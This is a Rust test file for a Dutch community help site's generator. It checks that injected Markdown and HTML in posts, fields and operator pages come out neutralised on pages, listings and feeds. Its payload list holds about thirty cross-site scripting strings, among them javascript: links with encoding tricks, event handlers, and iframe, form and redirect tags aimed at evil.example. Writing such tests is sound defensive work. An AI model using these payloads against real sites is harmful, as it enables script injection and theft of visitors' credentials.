//! Markdown injection: whatever a resident or a careless moderator puts in a post, no
//! page, listing or feed carries script, event handlers, styles, frames, forms or links
//! outside http, https, mailto and tel.

use crate::atom::parse_feed;
use crate::fixture::{Fixture, post};
use crate::html::{parse, select, text_of, unsafe_markup};

/// Bodies that try to get script or foreign requests into the page.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\" onclick=\"alert(2)\">x</a>",
    "[klik](javascript:alert(1))",
    "[klik](JAVASCRIPT:alert(1))",
    "[klik](java\tscript:alert(1))",
    "[klik](jav&#x61;script:alert(1))",
    "[klik](&#106;avascript:alert(1))",
    "[klik]( javascript:alert(1))",
    "<javascript:alert(1)>",
    "[klik][ref]\n\n[ref]: javascript:alert(1)",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<data:text/html,<script>alert(1)</script>>",
    "[klik](vbscript:msgbox(1))",
    "[klik](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "[klik](https://example.org \"t\\\" onmouseover=\\\"alert(1)\")",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<form action=\"https://evil.example/\"><input name=pw><button>go</button></form>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<details open ontoggle=alert(1)>x</details>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>body{display:none}</style>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "`<script>alert(1)</script>` and\n\n    <script>alert(2)</script>",
];

// Every payload in a body is neutralised on the post page, in the listing and in every
// feed entry, each checked with a real HTML parser.
#[test]
fn injection_payloads_in_bodies_never_become_markup() {
    let mut site = Fixture::new().page_size(100);
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let body = format!("Payload {i}:\n\n{payload}\n\nEinde.\n");
        site =
            site.post(post(&format!("inj{i:02}")).set("slug", &format!("inj{i:02}")).body(&body));
    }
    let site = site.build();

    for (i, payload) in PAYLOADS.iter().enumerate() {
        let page = site.read(&format!("/bericht/inj{i:02}/"));
        assert_eq!(unsafe_markup(&page, "main"), Vec::<String>::new(), "payload {payload:?}");
        assert!(
            text_of(&parse(&page), ".post-body").contains("Einde."),
            "{payload:?} ate the text"
        );
    }
    assert_eq!(unsafe_markup(&site.read("/hulpaanbod/"), "main"), Vec::<String>::new());
    for (path, xml) in site.feeds() {
        for entry in parse_feed(&path, &xml).entries {
            let html = entry.content_html.unwrap_or_default();
            assert_eq!(unsafe_markup(&html, "body"), Vec::<String>::new(), "{path}: {html}");
        }
    }
}

// Markup in one-line fields (title, name, organisation, neighbourhood) shows as text on
// every page and in the feed, escaped once.
#[test]
fn markup_in_one_line_fields_shows_as_text() {
    let evil = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'&";
    let site = Fixture::new()
        .post(
            post("fields")
                .title(evil)
                .set("slug", "velden")
                .set("display_name", evil)
                .set("organisation", evil)
                .set("municipality", "huizen")
                .set("neighbourhood", "Bovenweg"),
        )
        .build();
    for path in ["/bericht/velden/", "/hulpaanbod/", "/", "/gemeente/huizen/", "/categorie/garden/"]
    {
        let page = site.read(path);
        assert_eq!(unsafe_markup(&page, "body"), Vec::<String>::new(), "{path}");
        let doc = parse(&page);
        assert!(doc.root_element().text().collect::<String>().contains(evil), "{path}: text lost");
        assert!(select(&doc, "main script, main img").is_empty(), "{path}");
    }
    let entry = parse_feed("atom.xml", &site.read("/atom.xml")).entries.remove(0);
    assert_eq!((entry.title.as_str(), entry.authors[0].as_str()), (evil, evil));
}

// A hand-edited page (operator content) goes through the same sanitiser as posts.
#[test]
fn content_pages_are_sanitised_like_posts() {
    let site = Fixture::new()
        .page(
            "over-ons",
            "Over ons",
            "<script>alert(1)</script>\n\n[x](javascript:alert(1)) <b onclick=x>b</b>",
        )
        .build();
    let page = site.read("/over-ons/");
    assert_eq!(unsafe_markup(&page, "main"), Vec::<String>::new());
    assert!(page.contains("&lt;script&gt;"), "raw HTML is shown as text");
}
